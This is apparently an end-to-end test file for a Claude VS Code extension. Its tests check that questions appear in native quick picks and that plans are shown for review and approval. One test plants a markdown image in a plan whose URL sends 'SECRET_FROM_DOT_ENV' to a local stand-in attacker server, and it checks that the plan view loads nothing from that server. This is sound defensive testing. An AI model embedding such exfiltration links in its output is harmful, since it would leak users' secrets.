// Claude's questions and plans in real VS Code (code-server), with the real CLI and the
// scripted model: the answer is given in VS Code's own quick pick / notification, reaches the
// model, and the panel shows it. One code-server for the file; the scenarios share one chat.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { useVsCode, waitFor } from './support';

const tools = (steps: unknown) => `SCENARIO:tools:${JSON.stringify(steps)}`;

describe('e2e: questions and plans answered in native UI', function () {
  const vs = useVsCode({ name: 'interactive' });
  const shot = (name: string) => vs.screenshot(name);

  /** The tool_result text the model received for the latest call of `toolName`. */
  function toolResultFor(toolName: string): string | undefined {
    const ids = new Set<string>();
    let found: string | undefined;
    for (const r of vs.model.mainRequests()) {
      for (const m of r.body?.messages ?? []) {
        if (!Array.isArray(m.content)) continue;
        for (const b of m.content) {
          if (b?.type === 'tool_use' && b.name === toolName) ids.add(b.id);
          if (b?.type === 'tool_result' && ids.has(b.tool_use_id)) found = typeof b.content === 'string' ? b.content : (b.content ?? []).map((c: { text?: string }) => c.text ?? '').join('');
        }
      }
    }
    return found;
  }

  const quickPick = () => vs.page.locator('.quick-input-widget');
  const row = (label: string) => vs.page.locator('.quick-input-list .monaco-list-row', { hasText: label }).first();

  it('a question: quick pick, Escape keeps it pending, the card re-opens it, the picked answer reaches Claude', async () => {
    await vs.openView();
    await vs.webview.locator('.badge.scripted').waitFor({ timeout: 30_000 });
    const question = { question: 'Which color should the button be?', header: 'Color', options: [{ label: 'Red', description: 'warm and loud' }, { label: 'Blue', description: 'calm' }], multiSelect: false };
    await vs.send(tools([[{ name: 'AskUserQuestion', input: { questions: [question] } }]]));

    await quickPick().waitFor({ state: 'visible', timeout: 60_000 });
    assert.equal(await vs.page.locator('.quick-input-widget .quick-input-title').textContent(), 'Claude asks: Color');
    assert.equal(await vs.page.locator('.quick-input-widget input').first().getAttribute('placeholder'), 'Which color should the button be?');
    await row('Blue').waitFor();
    assert.match(await row('Blue').innerText(), /calm/);
    await shot('question-quick-pick');

    // Escape is not an answer: the prompt stays pending in the panel.
    await vs.page.keyboard.press('Escape');
    await quickPick().waitFor({ state: 'hidden', timeout: 10_000 });
    const card = vs.webview.locator('.entry.card.tool-askuserquestion');
    await vs.webview.locator('.entry.card.tool-askuserquestion.state-permission').waitFor({ timeout: 15_000 });
    await vs.webview.locator('.permission-banner').waitFor({ timeout: 15_000 });
    assert.equal(toolResultFor('AskUserQuestion'), undefined, 'nothing was sent to Claude');

    // The card's button asks the host to show VS Code's quick pick again; the pick answers.
    await card.locator('button.reopen-prompt').click();
    await row('Blue').waitFor({ timeout: 15_000 });
    await row('Blue').click();
    await card.locator('.question-answer', { hasText: 'Blue' }).waitFor({ timeout: 60_000 });
    await waitFor('the answer to reach the model', () => toolResultFor('AskUserQuestion'), 30_000);
    assert.equal(toolResultFor('AskUserQuestion'), 'Your questions have been answered: "Which color should the button be?"="Blue". You can now continue with these answers in mind.');
    await vs.turnEnds().first().waitFor({ timeout: 30_000 });
    await shot('question-answered');
  });

  it('Stop while a question is open: the quick pick closes, the prompt is settled, the turn ends interrupted', async () => {
    const endsBefore = await vs.turnEnds().count();
    const question = { question: 'Pick a size?', header: 'Size', options: [{ label: 'Small', description: 's' }, { label: 'Large', description: 'l' }], multiSelect: false };
    await vs.send(tools([[{ name: 'AskUserQuestion', input: { questions: [question] } }]]));
    await row('Large').waitFor({ timeout: 60_000 });
    await vs.webview.locator('button.stop').click();
    await quickPick().waitFor({ state: 'hidden', timeout: 15_000 });
    await waitFor('the turn to end', async () => (await vs.turnEnds().count()) > endsBefore, 30_000);
    assert.match((await vs.turnEnds().last().getAttribute('class')) ?? '', /outcome-interrupted/);
    await vs.webview.locator('.permission-banner').waitFor({ state: 'hidden', timeout: 15_000 });
    assert.equal(await vs.webview.locator('.entry.card.tool-askuserquestion').last().locator('button.reopen-prompt').count(), 0);
  });

  it('a plan: the panel mode picker sets plan, the plan opens in our own webview and a remote image in it loads nothing, Approve from its title bar leaves plan mode', async () => {
    await vs.webview.locator('[data-action="pick-mode"]').click();
    await row('plan').waitFor({ timeout: 15_000 });
    await row('plan').click();
    await vs.webview.locator('[data-action="pick-mode"]', { hasText: /^Plan mode$/ }).waitFor({ timeout: 15_000 });

    // The attacker's image: VS Code's markdown preview, which showed plans before,
    // loads https: images at once, so a plan could carry a secret out before the user answered.
    const attacker = await startAttacker();
    try {
      const image = `${attacker.url}/pixel.png?d=SECRET_FROM_DOT_ENV`;
      const plan = `# Rename the helper\n\n1. Rename \`foo\` to \`bar\`\n2. Update the callers\n\n![diagram](${image})\n\nSee [the docs](https://example.com/docs).`;
      await vs.send(tools([[{ name: 'ExitPlanMode', input: { plan } }]]));
      await vs.page.locator('.tabs-container .tab', { hasText: "Claude's plan" }).first().waitFor({ timeout: 60_000 });
      const toast = vs.toast('Claude has a plan');
      await toast.waitFor({ timeout: 30_000 });
      // The rendered plan: a frame (not the chat panel's) with the plan's heading.
      const frame = await waitFor(
        'the rendered plan',
        async () => {
          for (const f of vs.page.frames()) {
            const found = await f
              .evaluate(`!document.querySelector('textarea.prompt-input') && [...document.querySelectorAll('h1')].some((h) => h.textContent === 'Rename the helper')`)
              .catch(() => false);
            if (found) return f;
          }
          return undefined;
        },
        30_000,
        500,
      );
      await shot('plan-review');
      // The page has loaded (its heading is there): an image would have been asked for by now.
      assert.equal(attacker.requests.length, 0, `the plan loaded nothing from the attacker (${JSON.stringify(attacker.requests)})`);
      // Reads as a plan: heading, numbered steps with code, the image as a link to its address.
      assert.deepEqual(await frame.evaluate(`[...document.querySelectorAll('ol li')].map((li) => li.textContent)`), ['Rename foo to bar', 'Update the callers']);
      assert.equal(await frame.evaluate(`document.querySelectorAll('img').length`), 0);
      assert.deepEqual(await frame.evaluate(`[...document.querySelectorAll('a.image-link')].map((a) => [a.textContent, a.getAttribute('href')])`), [['[image: diagram]', image]]);

      // The stand-in attacker is reachable from this browser: its silence above means something.
      const probe = await vs.context.newPage();
      await probe.goto(image).catch(() => undefined);
      await probe.close();
      assert.ok(attacker.requests.some((u) => u.startsWith('/pixel.png?d=')), `the control request reached the stand-in attacker (${JSON.stringify(attacker.requests)})`);
    } finally {
      await attacker.close();
    }
    // Approved from the plan's tab: its title bar opens VS Code's quick pick, which decides.
    await vs.page.locator('.editor-actions .action-label[aria-label^="Review Claude\'s Plan"]').first().click();
    await row('Leave plan mode; ask before each edit').waitFor({ timeout: 15_000 });
    await row('Leave plan mode; ask before each edit').click();
    await quickPick().waitFor({ state: 'hidden', timeout: 10_000 });
    // The plan is a second webview; close it so the panel's frame is the only one.
    await vs.palette('View: Close All Editors');
    await waitFor('the plan to close', async () => (await vs.page.locator('iframe.webview.ready').count()) === 1, 15_000);

    const card = vs.webview.locator('.entry.card.tool-exitplanmode');
    await vs.webview.locator('.entry.card.tool-exitplanmode.state-done').waitFor({ timeout: 60_000 });
    assert.equal(await card.locator('.state-label').textContent(), 'Approved');
    await waitFor('the approval to reach the model', () => toolResultFor('ExitPlanMode'), 30_000);
    assert.match(toolResultFor('ExitPlanMode')!, /^User has approved your plan/);
    // The CLI left plan mode; the panel's mode follows it.
    await vs.webview.locator('[data-action="pick-mode"]', { hasText: /^Ask before edits$/ }).waitFor({ timeout: 30_000 });
    await shot('plan-approved');
  });
});

/**
 * A local HTTPS server standing in for an attacker's: it counts the requests it gets. HTTPS with a
 * throwaway self-signed certificate, because that is what a markdown preview's CSP lets through
 * (the browser is told to accept the certificate: see ignoreHTTPSErrors in ./support).
 */
async function startAttacker(): Promise<{ url: string; requests: string[]; close(): Promise<void> }> {
  const dir = mkdtempSync(join(tmpdir(), 'cc-attacker-'));
  try {
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem')], { stdio: 'ignore' });
    const requests: string[] = [];
    const server = createServer({ key: readFileSync(join(dir, 'key.pem')), cert: readFileSync(join(dir, 'cert.pem')) }, (req, res) => {
      requests.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    return { url: `https://127.0.0.1:${port}`, requests, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
